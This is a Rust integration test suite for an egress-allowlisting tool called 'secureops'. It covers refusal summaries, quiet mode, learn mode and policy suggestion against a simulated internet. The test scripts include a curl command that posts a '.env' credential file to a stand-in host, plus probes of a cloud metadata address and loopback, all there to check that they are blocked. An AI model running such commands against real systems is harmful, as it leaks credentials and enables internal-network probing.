//! Writing an allowlist with `secureops run`, as root: the summary of what
//! a run refused (and the `--allow` flags that let it through), `--quiet`,
//! and `--learn`, which lets unlisted destinations through while unsafe
//! addresses and credential taint still refuse. The fake internet lives in
//! a network namespace the test creates; canaries count what reaches them.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::path::Path;
use std::process::{Command, Output};

use support::Canary;
use support::netns::{FakeInternet, METADATA, METADATA_PORT, MetadataCanary};

/// `secureops run ARGS -- sh -c SCRIPT` from the fake internet's `work`
/// folder, proxy variables unset outside (the run sets its own inside).
fn run(net: &FakeInternet, args: &[&str], script: &str) -> Output {
    let mut c = Command::new(support::bin());
    c.current_dir(&net.work)
        .env("XDG_STATE_HOME", net.dir.path().join("state"));
    c.arg("run").args(args).args(["--", "sh", "-c", script]);
    for v in support::PROXY_VARS {
        c.env_remove(v);
    }
    c.output().unwrap()
}

fn write_config(net: &FakeInternet, name: &str, allow: &str, extra_hosts: &str, more: &str) -> String {
    let path = net.dir.path().join(name);
    std::fs::write(
        &path,
        format!(
            "[network]\negress_allowlist = [{allow}]\nprivate_destinations = [\"198.18.0.0/15\"]\n\
             [dns]\nupstream = []\nhosts = {{ \"allowed.test\" = [\"{}\"], \"denied.test\" = [\"{}\"], \
             \"other.test\" = [\"{}\"]{extra_hosts} }}\n{more}",
            net.allowed, net.canary, net.canary
        ),
    )
    .unwrap();
    path.display().to_string()
}

fn text(out: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The summary's destination line for `host` (two leading spaces).
fn lines_for<'a>(stderr: &'a str, host: &str) -> Vec<&'a str> {
    stderr
        .lines()
        .filter(|l| {
            l.strip_prefix("  ")
                .is_some_and(|l| l.split_whitespace().next() == Some(host))
        })
        .collect()
}

#[test]
fn a_run_that_was_refused_says_what_and_which_allow_flags_let_it_through() {
    let Some(net) = FakeInternet::start() else { return };
    let config = write_config(&net, "c.toml", "\"allowed.test\"", "", "");
    let log = net.dir.path().join("audit.jsonl");
    let log = log.to_str().unwrap();
    let canary = &net.canary;
    // Three denied destinations: a name by DNS (A and AAAA) and by the
    // explicit proxy, a name on another port, an address dialled directly.
    let script = format!(
        "curl -sS -m 2 --noproxy '*' -k https://denied.test/ >/dev/null 2>&1; \
         curl -sS -m 2 -k https://denied.test/ >/dev/null 2>&1; \
         curl -sS -m 2 http://other.test:9999/ >/dev/null 2>&1; \
         curl -sS -m 2 --noproxy '*' http://{canary}:9999/ >/dev/null 2>&1; \
         echo done"
    );
    let out = run(&net, &["-c", &config, "--audit", log], &script);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success() && stdout.contains("done"), "{stdout}{stderr}");
    assert_eq!(net.canary(), (0, 0, 0), "the canary saw traffic");
    assert!(stderr.contains("secureops: refused"), "{stderr}");
    // One line per destination: DNS and proxy refusals of a name together.
    let denied = lines_for(&stderr, "denied.test");
    assert_eq!(denied.len(), 1, "{stderr}");
    assert!(
        denied[0].contains(" 3 ") && denied[0].contains("dns 2") && denied[0].contains(":443 1"),
        "{stderr}"
    );
    assert!(denied[0].ends_with("not in the allowlist"), "{stderr}");
    let other = lines_for(&stderr, "other.test");
    assert!(other.len() == 1 && other[0].contains(":9999 1"), "{stderr}");
    let direct = lines_for(&stderr, canary);
    assert!(direct.len() == 1 && direct[0].contains(":9999 1"), "{stderr}");
    let flags = stderr
        .lines()
        .find_map(|l| l.strip_prefix("secureops: to let them through: "))
        .unwrap_or_else(|| panic!("no --allow flags: {stderr}"));
    let mut allows: Vec<&str> = flags.split_whitespace().filter(|w| *w != "--allow").collect();
    allows.sort_unstable();
    let mut want = vec!["denied.test", "other.test:9999"];
    let direct_rule = format!("{canary}:9999");
    want.push(&direct_rule);
    want.sort_unstable();
    assert_eq!(allows, want, "{stderr}");

    // The flags do let them through: the canary sees the connections and
    // the run, refused nothing, prints no summary.
    let mut args = vec!["-c", config.as_str(), "--audit", log];
    for rule in &allows {
        args.extend(["--allow", rule]);
    }
    let out = run(&net, &args, &script);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success() && stdout.contains("done"), "{stdout}{stderr}");
    let (tcp, _, bytes) = net.canary();
    assert!(
        tcp >= 4 && bytes > 0,
        "the allowed destinations were not reached: {tcp} {bytes}"
    );
    assert!(!stderr.contains("refused") && !stderr.contains("--allow"), "{stderr}");

    // --quiet: refusals, no summary.
    let out = run(&net, &["-c", &config, "--audit", log, "--quiet"], &script);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success() && stdout.contains("done"), "{stdout}{stderr}");
    assert!(!stderr.contains("refused") && !stderr.contains("--allow"), "{stderr}");
    let denials = support::read_entries(Path::new(log))
        .into_iter()
        .filter(|e| e["decision"] == "deny")
        .count();
    assert_eq!(denials, 2 * 5, "the quiet run refused as the first did");
}

#[test]
fn learn_lets_unlisted_destinations_through_but_unsafe_addresses_and_taint_still_refuse() {
    let Some(net) = FakeInternet::start() else { return };
    let Some(metadata) = MetadataCanary::start(&net) else {
        return;
    };
    let loopback = Canary::start();
    let config = write_config(
        &net,
        "learn.toml",
        "",
        &format!(", \"metadata.test\" = [\"{METADATA}\"], \"loop.test\" = [\"127.0.0.1\"]"),
        "[context]\ncredential_paths = [\"**/.env\"]\n",
    );
    std::fs::write(net.work.join(".env"), "TOKEN=secret\n").unwrap();
    let log = net.dir.path().join("audit.jsonl");
    let log = log.to_str().unwrap();
    let metadata_before = metadata.counts();
    let (ca, port, mport) = (net.ca.display(), loopback.port(), METADATA_PORT);
    let refused =
        |name: &str, cmd: &str| format!("{cmd} >/dev/null 2>&1 && echo {name}=reached || echo {name}=refused\n");
    let explicit = "env -u NO_PROXY -u no_proxy curl -sSf -m 5 -x \"$HTTP_PROXY\"";
    let mut script = format!(
        "echo CMD-STARTED >&2\n\
         echo \"LEARNED=$(curl -sS -m 10 --cacert {ca} https://allowed.test/)\"\n\
         echo \"LEARNED_DIRECT=$(curl -sS -m 10 --noproxy '*' --cacert {ca} https://allowed.test/)\"\n\
         curl -sS -m 2 -d learned-bytes http://denied.test:9999/ >/dev/null 2>&1\n"
    );
    script += &refused(
        "META_IP",
        &format!("curl -sSf -m 5 --noproxy '*' http://{METADATA}:{mport}/"),
    );
    script += &refused("META_NAME", &format!("{explicit} http://metadata.test:{mport}/"));
    script += &refused(
        "META_DNS",
        "python3 -c 'import socket; socket.getaddrinfo(\"metadata.test\", 80)'",
    );
    script += &refused("LOOP_IP", &format!("{explicit} http://127.0.0.1:{port}/"));
    script += &refused("LOOP_NAME", &format!("{explicit} http://loop.test:{port}/"));
    let out = run(&net, &["-c", &config, "--audit", log, "--learn"], &script);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}{stderr}");
    // The warning comes before the command runs.
    let warned = stderr.find("--learn: NOTHING IS BEING BLOCKED").expect("no warning");
    assert!(warned < stderr.find("CMD-STARTED").unwrap(), "{stderr}");
    for line in [
        "LEARNED=hello from the allowed upstream",
        "LEARNED_DIRECT=hello from the allowed upstream",
        "META_IP=refused",
        "META_NAME=refused",
        "META_DNS=refused",
        "LOOP_IP=refused",
        "LOOP_NAME=refused",
    ] {
        assert!(stdout.contains(line), "missing {line}: {stdout}\n{stderr}");
    }
    // The learned destination saw the bytes; the unsafe ones saw nothing.
    let (tcp, _, bytes) = net.canary();
    assert!(tcp >= 1 && bytes >= "learned-bytes".len() as u64, "{tcp} {bytes}");
    assert_eq!(metadata.counts(), metadata_before, "the metadata canary saw traffic");
    loopback.assert_untouched();
    let entries = support::read_entries(Path::new(log));
    assert!(
        entries[0]["detail"].as_str().unwrap_or("").contains("run --learn"),
        "{}",
        entries[0]
    );
    let of = |host: &str, decision: &str| -> Vec<String> {
        entries
            .iter()
            .filter(|e| e["host"] == host && e["decision"] == decision)
            .map(|e| format!("{} {}", e["kind"], e["reason"].as_str().unwrap_or("")))
            .collect()
    };
    let learned = of("allowed.test", "allow");
    assert!(
        learned.iter().any(|r| r.starts_with("\"dns\" learn:"))
            && learned.iter().any(|r| r.starts_with("\"egress\" learn:")),
        "{learned:?}"
    );
    assert!(of("allowed.test", "allow").iter().all(|r| r.contains(" learn:")));
    assert!(
        of("denied.test", "allow")
            .iter()
            .any(|r| r.contains(" learn: denied.test:9999"))
    );
    for (host, why) in [
        (METADATA, "cloud metadata"),
        ("metadata.test", "cloud metadata"),
        ("127.0.0.1", "loopback"),
        ("loop.test", "loopback"),
    ] {
        let denied = of(host, "deny");
        assert!(denied.iter().any(|r| r.contains(why)), "{host}: {denied:?}");
        assert!(
            of(host, "allow").iter().all(|r| r.starts_with("\"dns\"")),
            "{host} let through"
        );
    }
    // The summary: what was learned (with the rules to keep it), what was
    // still refused.
    assert!(stderr.contains("secureops: learned"), "{stderr}");
    assert_eq!(lines_for(&stderr, "allowed.test").len(), 1, "{stderr}");
    let keep = stderr
        .lines()
        .find_map(|l| l.strip_prefix("secureops: to allow them without --learn: "))
        .unwrap_or_else(|| panic!("no rules for the learned: {stderr}"));
    assert!(
        keep.contains("--allow allowed.test") && keep.contains("--allow denied.test:9999"),
        "{keep}"
    );
    // No rule for a name whose address is unsafe, even where a query of
    // it (an AAAA with no answer) was let through.
    assert!(!keep.contains("metadata.test") && !keep.contains("loop.test"), "{keep}");
    assert!(stderr.contains("secureops: refused"), "{stderr}");
    assert_eq!(lines_for(&stderr, METADATA).len(), 1, "{stderr}");

    // Credential taint refuses even in learn mode: the same kind of
    // request, carrying the credential file, reaches nothing.
    let before = net.canary();
    let script = "curl -sSf -m 5 -d @.env http://denied.test:9999/ >/dev/null 2>&1 \
                  && echo TAINTED=reached || echo TAINTED=refused";
    let out = run(&net, &["-c", &config, "--audit", log, "--learn"], script);
    let (stdout, stderr) = text(&out);
    assert!(stdout.contains("TAINTED=refused"), "{stdout}{stderr}");
    assert_eq!(net.canary(), before, "the tainted request reached the canary");
    let tainted = support::read_entries(Path::new(log))
        .into_iter()
        .any(|e| e["decision"] == "deny" && e["reason"].as_str().unwrap_or("").contains(".env"));
    assert!(tainted, "no taint refusal in the log");
    let verify = support::secureops(&["audit", "verify", log], net.dir.path());
    assert!(verify.status.success(), "{}", String::from_utf8_lossy(&verify.stdout));
}

/// The README's loop, end to end: `run --learn` → `policy suggest LOG` →
/// the fragment pasted into a config → the same command runs through
/// without `--learn`, with nothing refused; a destination left out of the
/// run is still refused (canary at zero).
#[test]
fn learn_then_suggest_gives_a_config_the_same_command_runs_under() {
    let Some(net) = FakeInternet::start() else { return };
    let config = write_config(&net, "learn.toml", "", "", "");
    let log = net.dir.path().join("audit.jsonl");
    let log = log.to_str().unwrap();
    let ca = net.ca.display();
    let script = format!(
        "echo \"TLS=$(curl -sS -m 10 --cacert {ca} https://allowed.test/)\"\n\
         curl -sS -m 5 -d learned http://denied.test:9999/ >/dev/null 2>&1\n"
    );
    let out = run(&net, &["-c", &config, "--audit", log, "--learn", "--quiet"], &script);
    let (stdout, stderr) = text(&out);
    assert!(
        stdout.contains("TLS=hello from the allowed upstream"),
        "{stdout}{stderr}"
    );
    assert!(
        stderr.is_empty() || !stderr.contains("secureops: learned"),
        "--quiet: {stderr}"
    );

    let suggest = Command::new(support::bin())
        .args(["policy", "suggest", log, "-c", &config])
        .output()
        .unwrap();
    let fragment = String::from_utf8_lossy(&suggest.stdout).into_owned();
    assert!(
        suggest.status.success(),
        "{fragment}{}",
        String::from_utf8_lossy(&suggest.stderr)
    );
    assert!(fragment.contains("\"allowed.test\""), "{fragment}");
    assert!(fragment.contains("\"denied.test:9999\""), "{fragment}");

    // Pasted into a config (its [network] table gets the test's private
    // range after the suggested list).
    let pasted = net.dir.path().join("suggested.toml");
    std::fs::write(
        &pasted,
        format!(
            "{fragment}private_destinations = [\"198.18.0.0/15\"]\n\
             [dns]\nupstream = []\nhosts = {{ \"allowed.test\" = [\"{}\"], \"denied.test\" = [\"{}\"], \"other.test\" = [\"{}\"] }}\n",
            net.allowed, net.canary, net.canary
        ),
    )
    .unwrap();
    let pasted = pasted.to_str().unwrap();
    let validate = support::secureops(&["config", "validate", pasted], net.dir.path());
    assert!(
        validate.status.success(),
        "{}",
        String::from_utf8_lossy(&validate.stdout)
    );
    for dest in ["allowed.test", "denied.test:9999"] {
        let check = support::secureops(&["check", "-c", pasted, dest], net.dir.path());
        let said = String::from_utf8_lossy(&check.stdout).into_owned();
        assert!(check.status.success() && said.starts_with("allow"), "{dest}: {said}");
    }

    let before = net.canary();
    let script = format!(
        "{script}curl -sSf -m 5 -d other http://other.test:9999/ >/dev/null 2>&1 && echo OTHER=reached || echo OTHER=refused\n"
    );
    let log2 = net.dir.path().join("audit2.jsonl");
    let out = run(&net, &["-c", pasted, "--audit", log2.to_str().unwrap()], &script);
    let (stdout, stderr) = text(&out);
    assert!(
        stdout.contains("TLS=hello from the allowed upstream"),
        "{stdout}{stderr}"
    );
    assert!(stdout.contains("OTHER=refused"), "{stdout}{stderr}");
    // The learned plain-HTTP request reached the canary again, once;
    // other.test shares its address, so a relay there would have counted.
    let (tcp, _, bytes) = net.canary();
    assert_eq!(tcp, before.0 + 1, "{stderr}");
    assert!(bytes > before.2, "{stderr}");
    assert!(stderr.contains("other.test"), "the summary names the refusal: {stderr}");
    assert!(!stderr.contains("allowed.test"), "nothing else refused: {stderr}");
}
